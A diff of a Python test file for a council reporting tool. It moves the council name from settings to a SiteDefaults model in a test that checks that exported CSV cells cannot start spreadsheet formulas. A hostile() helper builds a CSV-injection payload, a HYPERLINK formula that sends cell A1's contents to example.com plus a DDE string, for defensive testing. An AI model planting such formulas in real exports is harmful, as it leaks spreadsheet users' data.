@@ -8,7 +8,7 @@ from dataclasses import replace
 
 import pytest
 
-from scrutineer.catalogue.models import Committee, Indicator, Priority, ServiceTeam, Theme
+from scrutineer.catalogue.models import Committee, Indicator, Priority, ServiceTeam, SiteDefaults, Theme
 from scrutineer.collection.models import Value
 from scrutineer.engine import Period
 from scrutineer.reports.builder import build_document
@@ -226,10 +226,10 @@ def hostile(text):
     return f'=HYPERLINK("http://example.com/?"&A1,"{text}"),{DDE}'
 
 
-def test_no_cell_of_the_report_csv_can_start_a_formula(seed_council, settings):
+def test_no_cell_of_the_report_csv_can_start_a_formula(seed_council):
     """Every piece of text that reaches the CSV, typed anywhere, read back cell by cell the
     way a spreadsheet splits the file (the metadata lines too, at their commas)."""
-    settings.SCRUTINEER_COUNCIL_NAME = hostile("council")
+    SiteDefaults.objects.update(council_name=hostile("council"))
     for model in (Committee, Indicator, Theme, Priority, ServiceTeam):
         for pk in model.objects.values_list("pk", flat=True):  # names are unique
             model.objects.filter(pk=pk).update(name=hostile(f"{model.__name__} {pk}"))
